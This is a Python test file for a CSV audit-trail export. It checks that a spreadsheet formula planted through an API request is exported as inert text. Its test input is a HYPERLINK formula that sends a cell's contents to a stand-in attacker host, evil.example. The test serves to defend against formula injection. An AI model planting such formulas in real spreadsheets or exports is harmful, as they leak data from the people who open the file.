"""Formula cells planted through the API come out of every CSV export as text."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

from hindsight.domain.csv_export import FORMULA_START
from tests.support.people import person

PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_formula_planted_by_an_agent_in_the_audit_trail_is_exported_as_text(server, account):
    agent = person(server, account.sid, ["agent"], name="agent")
    admin = person(server, account.sid, ["admin"], name="admin")
    try:
        # A denied or failed read records the id the agent asked for, verbatim.
        planted = agent.get(f"/api/v1/insights/conversations/{quote(PLANTED, safe='')}")
        assert planted.status_code in (403, 404), planted.text
        exported = admin.get("/api/v1/audit.csv", actor=agent.sid)
        assert exported.status_code == 200, exported.text
        cells = _cells(exported.text)
        assert "'" + PLANTED in cells
        assert not [c for c in cells if c.startswith(FORMULA_START)]
    finally:
        agent.close()
        admin.close()
